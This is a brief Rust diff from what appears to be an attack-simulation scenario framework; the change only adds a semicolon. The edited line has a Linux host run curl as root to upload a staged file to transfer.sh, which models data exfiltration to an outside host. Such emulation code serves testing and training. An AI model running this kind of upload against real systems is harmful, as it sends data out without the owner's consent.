@@ -309,7 +309,7 @@ impl Scene<'_, '_> {
                 self.calls(host, SYSTEM, tool, outside::DROP);
             }
             Os::Linux => {
-                self.command(host, User::ROOT, &["curl", "-s", "-T", STAGED, "https://transfer.sh/d"])
+                self.command(host, User::ROOT, &["curl", "-s", "-T", STAGED, "https://transfer.sh/d"]);
             }
             Os::Network => {}
         }
